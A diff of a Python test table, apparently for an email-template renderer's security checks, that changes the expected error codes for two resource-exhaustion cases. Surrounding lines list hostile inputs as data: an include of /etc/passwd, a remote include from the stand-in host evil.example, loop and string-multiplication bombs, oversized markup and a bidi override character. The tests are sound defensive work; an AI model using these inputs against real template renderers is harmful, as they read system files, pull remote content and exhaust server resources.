@@ -204,9 +204,9 @@ CASES = [
     Case("include-absolute", raw('</mj-raw><mj-include path="/etc/passwd" /><mj-raw>'), "TPL-INCLUDE-05"),
     Case("remote-include", hello('[% include "https://evil.example/a.mjml" %]'), "TPL-INCLUDE-04"),
     Case("include-of-itself", hello('[% include "product-news.fr.mjml" %]'), "TPL-INCLUDE-06"),
-    Case("range-bomb", hello("{% for i in range(100000000) %}x{% endfor %}"), "TPL-RENDER"),
+    Case("range-bomb", hello("{% for i in range(100000000) %}x{% endfor %}"), "TPL-JINJA-32"),
     Case("nested-range-bomb", hello(bomb(4)), "TPL-RENDER"),
-    Case("text-bomb", hello("{{ 'x' * 100000000 }}"), "TPL-RENDER"),
+    Case("text-bomb", hello("{{ 'x' * 100000000 }}"), "TPL-JINJA-32"),
     Case("elements-without-end", raw(('<div title="' + "x" * 30 + '">') * 2_600), "MSG-SIZE-13", stops=False),
     Case("bidi-in-a-template", hello("Bonjour \u202e{{ contact.first_name }}"), "TPL-TEXT-09"),
     # links and pictures
